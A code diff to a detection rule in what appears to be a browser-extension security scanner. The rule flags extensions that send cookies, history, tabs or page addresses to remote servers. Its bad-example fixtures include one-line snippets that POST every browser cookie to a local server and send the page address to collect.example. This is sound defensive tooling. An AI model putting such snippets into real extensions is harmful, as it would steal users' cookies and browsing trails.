@@ -1,84 +1,23 @@
-import { askedFor } from '../../flows/extension/askedFor.ts';
 import { flowsOf } from '../../flows/flowsOf.ts';
-import { hitsOfFlows, milder, OPENED, sentence, staysHere, type Weight } from '../../flows/hits.ts';
-import type { Severity } from '../../../model/finding.ts';
-import type { Flow } from '../../flows/flow.ts';
+import { hitsOfFlows } from '../../flows/hits.ts';
 import type { SourceKind } from '../../flows/kinds.ts';
-import { coversAllSites } from '../../facts/extension/matchPattern.ts';
-import { manifestOf } from '../../facts/extension/roles.ts';
 import { sample } from '../../flows/sample.ts';
-import { reachOfScope } from '../permissions/account-scope-broad.ts';
+import { sendingWeight } from '../../verdict/sendingWeight.ts';
 import { defineRule } from '../../rule.ts';
 
-const SEVERITY: Partial<Record<SourceKind, Severity>> = {
-  cookies: 'high',
-  history: 'high',
-  bookmarks: 'high',
-  'browsing-data': 'medium',
-  downloads: 'medium',
-  management: 'medium',
-  tabs: 'medium',
-  navigation: 'medium',
-  'page-address': 'medium',
-};
-
-/** Servers of who gave the token out. */
-const ISSUER = /^https:\/\/(?:[\w-]+\.)*(?:google|googleapis|youtube)\.com(?:\/|$)/;
-
-/** What tells, one after the other, of the pages that are visited. */
-const VISITS: ReadonlySet<SourceKind> = new Set<SourceKind>(['page-address', 'tabs', 'navigation']);
-
-/**
- * Whether the person asks for it each time: in the popup, by the button or a shortcut. Everything else goes out by itself,
- * page after page.
- */
-function isAsked({ source, unit, pos }: Flow): boolean {
-  const inPopup = ({ roles }: Flow['unit']): boolean => roles.has('popup') && !roles.has('background');
-  return (
-    inPopup(unit) ||
-    inPopup(source.unit) ||
-    askedFor(unit, pos) ||
-    askedFor(source.unit, source.unit.script.pos[source.shown] as number)
-  );
-}
-
-function weigh(flow: Flow, isBroad: boolean, everywhere: ReadonlySet<string>): Weight | undefined {
-  const { source, sink, unit } = flow;
-  // Signing in at one's own server by such a token is common; with it the server can do whatever it was given for.
-  const isToken = source.kind === 'identity' && source.label === 'a sign-in token';
-  // A host tells where a person is, not what they do there.
-  const severity = isToken
-    ? isBroad
-      ? 'high'
-      : 'low'
-    : source.label === 'host of the web page'
-      ? 'low'
-      : SEVERITY[source.kind];
-  if (
-    sink.kind !== 'network' ||
-    severity === undefined ||
-    staysHere(sink.to) ||
-    (isToken && ISSUER.test(sink.to ?? '')) ||
-    // A page that the person opens, and sees: of theirs, it is told what they asked it for.
-    (OPENED.test(sink.label) && severity !== 'high' && askedFor(unit, flow.pos))
-  )
-    return undefined;
-  const asked = isAsked(flow);
-  const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
-  // Every visit, by itself, to a server that is named: all that a person does on the web.
-  const isTrail =
-    known &&
-    severity === 'medium' &&
-    VISITS.has(source.kind) &&
-    flow.hops <= 2 &&
-    (source.kind !== 'page-address' || everywhere.has(source.unit.file.path));
-  const mild = asked ? (severity === 'high' ? milder(severity) : 'low') : isTrail ? 'high' : severity;
-  return {
-    severity: flow.checked || OPENED.test(sink.label) ? milder(mild) : mild,
-    confidence: flow.stored || !known ? 'medium' : 'high',
-    message: sentence(flow, known ? sink.to : undefined),
-  };
-}
+/** What the browser's own interfaces, and the address of a page, tell. */
+const KINDS: ReadonlySet<SourceKind> = new Set<SourceKind>([
+  'cookies',
+  'history',
+  'bookmarks',
+  'browsing-data',
+  'downloads',
+  'management',
+  'tabs',
+  'navigation',
+  'page-address',
+  'identity',
+]);
 
 export default defineRule({
   id: 'browsing-data-to-network',
@@ -91,16 +30,17 @@ export default defineRule({
   why: 'Cookies, history, bookmarks or addresses of visited pages leave the browser. They tell what a person does, and cookies let others sign in as them.',
   remedy:
     'Send nothing that is not needed for what the person asked, ask first, and say so in the privacy policy. Never send cookies.',
-  check: (facts) => {
-    const isBroad =
-      manifestOf(facts)?.manifest.oauthScopes.some(({ scope }) => reachOfScope(scope) !== undefined) === true;
-    const everywhere = new Set(
-      manifestOf(facts)?.manifest.contentScripts.flatMap(({ js, matches }) => (matches.some(coversAllSites) ? js : [])),
-    );
-    return hitsOfFlows(facts.whole(flowsOf).flows, (flow) => weigh(flow, isBroad, everywhere));
-  },
+  cap: { grade: 'F', reason: 'it sends cookies or every visited address to others', from: 'critical' },
+  check: (facts) =>
+    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
+      KINDS.has(flow.source.kind) ? sendingWeight(facts, flow) : undefined,
+    ),
   examples: {
     bad: [
+      sample({
+        background:
+          'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));',
+      }),
       sample({ content: "fetch('https://collect.example/v?u=' + window.location);" }),
       sample({
         background:
@@ -153,6 +93,10 @@ export default defineRule({
     ],
     good: [
       sample({
+        background:
+          'chrome.cookies.get({ url: "https://app.example/", name: "id" }).then(({ value }) => fetch("https://api.app.example/me", { headers: { "X-Id": value } }));',
+      }),
+      sample({
         manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
         background:
           'chrome.identity.getAuthToken({}, (token) => { fetch("https://gmail.googleapis.com/gmail/v1/users/me/labels", { headers: { Authorization: "Bearer " + token } }); });',
@@ -177,10 +121,6 @@ export default defineRule({
           'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });',
       }),
       sample({ background: 'chrome.history.search({ text: "" }, (h) => chrome.storage.local.set({ h }));' }),
-      sample({
-        background:
-          'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));',
-      }),
       sample({
         background:
           'const log = (x) => fetch("https://api.example/log", { method: "POST", body: x }); const show = (x) => x; chrome.tabs.query({}, (t) => show(t[0].url)); log("started");',
